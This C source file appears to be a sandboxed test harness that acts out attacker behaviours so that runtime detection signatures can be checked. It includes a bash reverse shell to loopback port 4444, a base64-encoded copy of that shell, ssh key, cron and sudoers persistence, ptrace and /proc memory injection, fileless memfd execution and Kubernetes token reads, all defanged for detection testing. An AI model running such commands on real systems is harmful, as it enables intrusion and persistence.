// SPDX-License-Identifier: MIT
/*
 * scenario: perform, safely, each behaviour the signatures and the Sigma
 * fixtures detect, or a benign workload, for the live test
 * (tests/live/test_signatures_live.sh) to record and replay.
 *
 *   scenario [--benign] [--only NAME[,NAME...]] [--list]
 *
 * Safety (needs root):
 *   - everything runs in a private mount namespace and a private network
 *     namespace (loopback only, brought up here): nothing leaves the host,
 *     and no port of the host is used;
 *   - /etc, /root and /var/log are overlays whose upper layer is a tmpfs,
 *     /tmp and /mnt are tmpfs: every file written is gone when the last
 *     process of the namespace exits, nothing on the host changes;
 *   - the sysctls (core_pattern, sysrq) are opened for writing and closed
 *     without a byte written; /proc/PID/mem, ptrace and process_vm_writev
 *     target a child of ours; the kernel module call is refused by the
 *     kernel (no image); the mount is of a device that does not exist;
 *   - the "container" behaviours run in a child pid namespace.
 * It prints its mount namespace id ("mntns N") first, so the test picks
 * its findings out of a host-wide recording.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define SCRATCH "/mnt"

static int verbose;

#define say(...) do { if (verbose) fprintf(stderr, "scenario: " __VA_ARGS__); } while (0)

static int die(const char *what)
{
	fprintf(stderr, "scenario: error: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void write_file(const char *path, const void *p, size_t n, int flags, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | flags, mode);

	if (fd < 0 || write(fd, p, n) != (ssize_t)n || close(fd))
		fprintf(stderr, "scenario: %s: %s\n", path, strerror(errno));
}

static void copy_file(const char *from, const char *to, mode_t mode)
{
	char buf[65536];
	int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
	ssize_t n;

	if (in < 0 || out < 0) {
		fprintf(stderr, "scenario: copy %s %s: %s\n", from, to, strerror(errno));
		return;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	close(in);
	close(out);
}

/* open for the flags and close, writing nothing */
static void touch_open(const char *path, int flags)
{
	int fd = open(path, flags);

	say("open %s %o: %s\n", path, flags, fd < 0 ? strerror(errno) : "ok");
	if (fd >= 0)
		close(fd);
}

static int run(char *const argv[], char *const envp[])
{
	pid_t p = fork();
	int st = 0;

	if (p == 0) {
		execve(argv[0], argv, envp ? envp : (char *const[]){ "PATH=/usr/bin:/bin", NULL });
		_exit(127);
	}
	waitpid(p, &st, 0);
	return st;
}

static int listen_on(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (void *)&a, sizeof(a)) || listen(s, 8))
		die("listen");
	return s;
}

static void connect_to(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (connect(s, (void *)&a, sizeof(a)))
		fprintf(stderr, "scenario: connect %u: %s\n", port, strerror(errno));
	close(s);
}

/* A child that waits to be killed: a target for the injection behaviours. */
static volatile long target_word = 42;

static pid_t spawn_target(void)
{
	pid_t p = fork();

	if (p == 0) {
		prctl(PR_SET_NAME, "scn-target");
		for (;;)
			pause();
	}
	return p;
}

static void reap(pid_t p)
{
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

/* ---- the behaviours ---- */

static void b_exec_tmp(void)
{
	copy_file("/bin/true", "/tmp/payload", 0755);
	run((char *const[]){ "/tmp/payload", NULL }, NULL);
}

static void b_reverse_shell(void)
{
	int ls = listen_on(4444), c;
	pid_t p = fork();
	char buf[4096];

	if (p == 0) {
		run((char *const[]){ "/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", NULL }, NULL);
		_exit(0);
	}
	c = accept(ls, NULL, NULL);
	if (c >= 0) {
		if (write(c, "exit\n", 5) != 5)
			say("reverse shell: write failed\n");
		while (read(c, buf, sizeof(buf)) > 0)
			;
		close(c);
	}
	close(ls);
	waitpid(p, NULL, 0);
}

static void b_miner(void)
{
	int ls = listen_on(3333);

	run((char *const[]){ "/bin/true", "-o", "stratum+tcp://127.0.0.1:3333", NULL }, NULL);
	connect_to(3333);
	close(ls);
}

static void b_history(void)
{
	mkdir("/root", 0700);
	write_file("/root/.bash_history", "ls\n", 3, O_APPEND, 0600);
	touch_open("/root/.bash_history", O_WRONLY | O_TRUNC);
	run((char *const[]){ "/bin/rm", "-f", "/root/.bash_history", NULL }, NULL);
	/* "bash -i" hidden in base64 */
	run((char *const[]){ "/bin/sh", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMjcuMC4wLjEvOSAwPiYx >/dev/null", NULL },
	    NULL);
}

static void b_authorized_keys(void)
{
	mkdir("/root/.ssh", 0700);
	write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA scenario\n", 26, O_APPEND, 0600);
}

static void b_setuid(void)
{
	copy_file("/bin/true", SCRATCH "/suid", 0755);
	chmod(SCRATCH "/suid", 04755);
	run((char *const[]){ "/bin/chmod", "u+s", SCRATCH "/suid", NULL }, NULL);
}

static void b_logs(void)
{
	write_file("/var/log/scenario.log", "x\n", 2, O_TRUNC, 0600);
	write_file("/var/log/scenario2.log", "x\n", 2, O_TRUNC, 0600);
	touch_open("/var/log/scenario2.log", O_WRONLY | O_TRUNC);
	if (rename("/var/log/scenario2.log", "/var/log/scenario2.log.old"))
		say("rename: %s\n", strerror(errno));
	unlink("/var/log/scenario.log");
}

static void b_etc(void)
{
	mkdir("/etc/sudoers.d", 0750);
	write_file("/etc/sudoers.d/scenario", "# scenario\n", 11, O_TRUNC, 0440);
	mkdir("/etc/cron.d", 0755);
	write_file("/etc/cron.d/scenario", "# scenario\n", 11, O_TRUNC, 0644);
	mkdir("/etc/init.d", 0755);
	write_file("/etc/init.d/scenario", "#!/bin/sh\n", 10, O_TRUNC, 0755);
	/* an empty preload file is harmless, and gone at once */
	write_file("/etc/ld.so.preload", "", 0, O_TRUNC, 0644);
	unlink("/etc/ld.so.preload");
	mkdir("/etc/kubernetes", 0755);
	mkdir("/etc/kubernetes/pki", 0700);
	write_file("/etc/kubernetes/pki/ca.key", "k\n", 2, O_TRUNC, 0600);
	touch_open("/etc/kubernetes/pki/ca.key", O_RDONLY);
}

static void b_ld_preload_env(void)
{
	run((char *const[]){ "/bin/true", NULL },
	    (char *const[]){ "PATH=/usr/bin:/bin", "LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6", NULL });
}

static void b_loader(void)
{
	mkdir(SCRATCH "/lib", 0755);
	write_file(SCRATCH "/lib/new-loader", "", 0, O_TRUNC, 0755);
	if (rename(SCRATCH "/lib/new-loader", SCRATCH "/lib/ld-linux-x86-64.so.2"))
		say("rename loader: %s\n", strerror(errno));
}

static void b_proc(void)
{
	char path[64];
	pid_t t = spawn_target();

	touch_open("/proc/sys/kernel/core_pattern", O_WRONLY);
	touch_open("/proc/sys/kernel/sysrq", O_WRONLY);
	touch_open("/proc/sys/kernel/randomize_va_space", O_RDONLY);
	touch_open("/proc/kcore", O_RDONLY);
	if (!mount("debugfs", "/sys/kernel/debug", "debugfs", 0, NULL))
		touch_open("/sys/kernel/debug/sched/debug", O_RDONLY);
	touch_open("/proc/sched_debug", O_RDONLY);
	snprintf(path, sizeof(path), "/proc/%d/mem", t);
	touch_open(path, O_RDONLY);
	touch_open(path, O_RDWR);
	reap(t);
}

static void b_ptrace(void)
{
	pid_t t, p = fork();
	long v = 7;
	struct iovec local = { &v, sizeof(v) }, remote = { (void *)&target_word, sizeof(v) };

	if (p == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		_exit(0);
	}
	waitpid(p, NULL, 0);
	t = spawn_target();
	if (!ptrace(PTRACE_ATTACH, t, NULL, NULL)) {
		waitpid(t, NULL, 0);
		ptrace(PTRACE_POKEDATA, t, (void *)&target_word, (void *)7L);
		ptrace(PTRACE_DETACH, t, NULL, NULL);
	}
	if (process_vm_writev(t, &local, 1, &remote, 1, 0) < 0)
		say("process_vm_writev: %s\n", strerror(errno));
	reap(t);
}

static void b_memory(void)
{
	void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (m != MAP_FAILED) {
		memset(m, 0xc3, 16);
		mprotect(m, 4096, PROT_READ | PROT_WRITE | PROT_EXEC);
		munmap(m, 4096);
	}
}

static void b_fileless(void)
{
	int fd = (int)syscall(SYS_memfd_create, "scenario", 0), in = open("/bin/true", O_RDONLY);
	char buf[65536];
	ssize_t n;
	pid_t p;

	if (fd < 0 || in < 0)
		return;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			break;
	close(in);
	p = fork();
	if (p == 0) {
		fexecve(fd, (char *const[]){ "scn-memfd", NULL }, (char *const[]){ NULL });
		_exit(127);
	}
	waitpid(p, NULL, 0);
	close(fd);
}

static void b_module(void)
{
	/* no image: the kernel refuses it (EFAULT/EPERM); the call is the behaviour */
	if (syscall(SYS_init_module, NULL, 0, "") < 0)
		say("init_module: %s\n", strerror(errno));
}

/* A "web server": this program again, as /mnt/nginx, starting a shell. */
static void b_web_shell(void)
{
	copy_file("/proc/self/exe", SCRATCH "/nginx", 0755);
	run((char *const[]){ SCRATCH "/nginx", "--as-nginx", NULL }, NULL);
}

static int as_nginx(void)
{
	return run((char *const[]){ "/bin/sh", "-c", "true", NULL }, NULL);
}

static void b_elf_files(void)
{
	copy_file("/bin/true", SCRATCH "/.hidden-tool", 0755);
}

/* In a child pid namespace: what Tracee watches in containers. */
static void container_behaviours(void)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	int s, c;

	mkdir(SCRATCH "/cg", 0755);
	touch_open(SCRATCH "/cg/notify_on_release", O_WRONLY | O_CREAT);
	touch_open(SCRATCH "/cg/release_agent", O_WRONLY | O_CREAT);
	mkdir(SCRATCH "/secrets", 0755);
	mkdir(SCRATCH "/secrets/kubernetes.io", 0755);
	mkdir(SCRATCH "/secrets/kubernetes.io/serviceaccount", 0755);
	write_file(SCRATCH "/secrets/kubernetes.io/serviceaccount/token", "t\n", 2, O_TRUNC, 0600);
	touch_open(SCRATCH "/secrets/kubernetes.io/serviceaccount/token", O_RDONLY);
	/* the Kubernetes API server of this "pod" is on loopback */
	s = listen_on(443);
	run((char *const[]){ "/bin/true", NULL },
	    (char *const[]){ "KUBERNETES_SERVICE_HOST=127.0.0.1", "KUBERNETES_SERVICE_PORT=443", NULL });
	connect_to(443);
	close(s);
	mkdir(SCRATCH "/disk", 0755);
	if (mount("/dev/scenario-no-such-disk", SCRATCH "/disk", "ext4", MS_RDONLY, NULL))
		say("mount: %s\n", strerror(errno));
	snprintf(un.sun_path, sizeof(un.sun_path), SCRATCH "/docker.sock");
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(s, (void *)&un, sizeof(un)) || listen(s, 1))
		say("docker.sock: %s\n", strerror(errno));
	c = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(c, (void *)&un, sizeof(un)))
		say("connect docker.sock: %s\n", strerror(errno));
	close(c);
	close(s);
	copy_file("/bin/true", SCRATCH "/dropped-tool", 0755);
}

static void b_container(void)
{
	pid_t p;

	if (unshare(CLONE_NEWPID)) {
		say("unshare pid: %s\n", strerror(errno));
		return;
	}
	p = fork();
	if (p == 0) {
		container_behaviours();
		_exit(0);
	}
	waitpid(p, NULL, 0);
}

static const struct {
	const char *name;
	void (*fn)(void);
} behaviours[] = {
	{ "exec_tmp", b_exec_tmp },
	{ "reverse_shell", b_reverse_shell },
	{ "miner", b_miner },
	{ "history", b_history },
	{ "authorized_keys", b_authorized_keys },
	{ "setuid", b_setuid },
	{ "logs", b_logs },
	{ "etc", b_etc },
	{ "ld_preload_env", b_ld_preload_env },
	{ "loader", b_loader },
	{ "proc", b_proc },
	{ "ptrace", b_ptrace },
	{ "memory", b_memory },
	{ "fileless", b_fileless },
	{ "module", b_module },
	{ "web_shell", b_web_shell },
	{ "elf_files", b_elf_files },
	{ "container", b_container },	/* last: it moves us into a new pid namespace's parent */
};

/* ---- the benign workload ---- */

static void benign(char *work)
{
	char src[512], bin[512], cp[512], cmd[2048];
	int ls;

	snprintf(src, sizeof(src), "%s/hello.c", work);
	snprintf(bin, sizeof(bin), "%s/hello", work);
	snprintf(cp, sizeof(cp), "%s/hello.copy", work);
	write_file(src, "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n", 56, O_TRUNC, 0644);
	/* a build, and its result run */
	run((char *const[]){ "/usr/bin/cc", "-O2", "-o", bin, src, NULL }, NULL);
	run((char *const[]){ bin, NULL }, NULL);
	/* package queries */
	run((char *const[]){ "/usr/bin/dpkg", "-s", "coreutils", NULL }, NULL);
	run((char *const[]){ "/usr/bin/dpkg", "-L", "coreutils", NULL }, NULL);
	/* file copies */
	run((char *const[]){ "/bin/cp", "/etc/hostname", cp, NULL }, NULL);
	snprintf(cmd, sizeof(cmd), "%s", work);
	run((char *const[]){ "/bin/cp", "-r", "/usr/share/doc/coreutils", cmd, NULL }, NULL);
	/* an HTTP fetch on loopback */
	ls = listen_on(8080);
	close(ls);
	snprintf(cmd, sizeof(cmd),
		 "cd '%s' && (python3 -m http.server --bind 127.0.0.1 8080 >/dev/null 2>&1 & echo $! >srv.pid); "
		 "for i in 1 2 3 4 5 6 7 8 9 10; do curl -s -o fetched http://127.0.0.1:8080/hello.c && break; sleep 0.3; done; "
		 "kill $(cat srv.pid)", work);
	run((char *const[]){ "/bin/sh", "-c", cmd, NULL }, (char *const[]){ "PATH=/usr/local/bin:/usr/bin:/bin",
									     "HOME=/root", NULL });
}

/* ---- namespaces ---- */

static void lo_up(void)
{
	struct ifreq ifr = { 0 };
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "lo");
	if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr))
		die("lo");
	ifr.ifr_flags |= IFF_UP;
	if (ioctl(s, SIOCSIFFLAGS, &ifr))
		die("lo up");
	close(s);
}

static void overlay(const char *dir, const char *tag)
{
	char up[256], wk[256], opt[1024];

	snprintf(up, sizeof(up), "/run/scenario-ov/%s/u", tag);
	snprintf(wk, sizeof(wk), "/run/scenario-ov/%s/w", tag);
	if (mkdir(up, 0755) && errno != EEXIST)
		die(up);
	if (mkdir(wk, 0755) && errno != EEXIST)
		die(wk);
	snprintf(opt, sizeof(opt), "lowerdir=%s,upperdir=%s,workdir=%s", dir, up, wk);
	if (mount("overlay", dir, "overlay", 0, opt))
		die(dir);
}

static void sandbox(void)
{
	static const char *const tags[] = { "etc", "root", "varlog" };
	char path[256];

	if (unshare(CLONE_NEWNS | CLONE_NEWNET))
		die("unshare");
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		die("make / private");
	lo_up();
	/* tmpfs first, so that the overlays' upper layers live in memory;
	 * /run is where they go (a tmpfs over it hides nothing we need) */
	if (mount("tmpfs", "/run", "tmpfs", 0, "mode=0755,size=64m"))
		die("tmpfs /run");
	if (mkdir("/run/scenario-ov", 0700))
		die("/run/scenario-ov");
	for (size_t i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "/run/scenario-ov/%s", tags[i]);
		if (mkdir(path, 0700))
			die(path);
	}
	overlay("/etc", "etc");
	overlay("/root", "root");
	overlay("/var/log", "varlog");
	if (mount("tmpfs", "/tmp", "tmpfs", 0, "mode=1777,size=64m"))
		die("tmpfs /tmp");
	if (mount("tmpfs", SCRATCH, "tmpfs", 0, "mode=0755,size=64m"))
		die("tmpfs " SCRATCH);
}

int main(int argc, char **argv)
{
	const char *only = NULL;
	char *work = NULL;
	int list = 0, do_benign = 0;
	char ns[64] = "";

	if (argc == 2 && !strcmp(argv[1], "--as-nginx"))
		return as_nginx();
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--benign") && i + 1 < argc)
			do_benign = 1, work = argv[++i];
		else if (!strcmp(argv[i], "--only") && i + 1 < argc)
			only = argv[++i];
		else if (!strcmp(argv[i], "--list"))
			list = 1;
		else if (!strcmp(argv[i], "-v"))
			verbose = 1;
		else {
			fprintf(stderr, "usage: scenario [-v] [--benign WORKDIR | --only NAME,...] [--list]\n");
			return 2;
		}
	}
	if (list) {
		for (size_t i = 0; i < sizeof(behaviours) / sizeof(behaviours[0]); i++)
			puts(behaviours[i].name);
		return 0;
	}
	if (geteuid()) {
		fprintf(stderr, "scenario: error: needs root (namespaces, mounts)\n");
		return 1;
	}
	sandbox();
	if (readlink("/proc/self/ns/mnt", ns, sizeof(ns) - 1) < 0)
		die("/proc/self/ns/mnt");
	printf("mntns %s\n", ns);
	fflush(stdout);
	if (do_benign) {
		int null = open("/dev/null", O_WRONLY);

		if (null >= 0)
			dup2(null, STDOUT_FILENO);
		benign(work);
		return 0;
	}
	for (size_t i = 0; i < sizeof(behaviours) / sizeof(behaviours[0]); i++) {
		char pat[128];

		snprintf(pat, sizeof(pat), ",%s,", behaviours[i].name);
		if (only) {
			char list2[1024];

			snprintf(list2, sizeof(list2), ",%s,", only);
			if (!strstr(list2, pat))
				continue;
		}
		say("%s\n", behaviours[i].name);
		behaviours[i].fn();
	}
	return 0;
}
